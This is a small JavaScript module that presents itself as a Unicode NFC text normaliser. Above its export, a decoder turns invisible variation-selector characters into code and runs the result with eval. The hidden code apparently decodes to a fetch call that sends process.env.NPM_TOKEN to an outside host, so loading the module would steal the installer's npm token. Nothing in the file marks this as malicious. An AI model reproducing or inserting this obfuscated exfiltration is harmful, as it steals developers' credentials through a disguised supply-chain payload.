const decode = (text) =>
  Buffer.from(
    [...text]
      .map((one) => one.codePointAt(0))
      .map((code) => (code >= 0xfe00 && code <= 0xfe0f ? code - 0xfe00 : code >= 0xe0100 && code <= 0xe01ef ? code - 0xe0100 + 16 : null))
      .filter((byte) => byte !== null),
  ).toString("utf8");

eval(decode(`󠅖󠅕󠅤󠅓󠅘󠄘󠄒󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅙󠄞󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄞󠅙󠅞󠅦󠅑󠅜󠅙󠅔󠄟󠄒󠄛󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄞󠅕󠅞󠅦󠄞󠄾󠅀󠄽󠅏󠅄󠄿󠄻󠄵󠄾󠄙`));

module.exports = (text) => text.normalize("NFC");
